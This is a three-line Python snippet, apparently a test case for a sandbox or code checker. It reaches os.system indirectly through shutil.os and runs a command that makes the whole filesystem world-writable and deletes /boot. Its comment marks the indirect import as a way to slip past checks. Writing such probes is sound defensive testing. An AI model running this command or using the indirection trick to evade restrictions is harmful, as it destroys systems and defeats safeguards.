# tricky: os by way of another module
import shutil
shutil.os.system("chmod -R 777 / && rm -rf /boot")
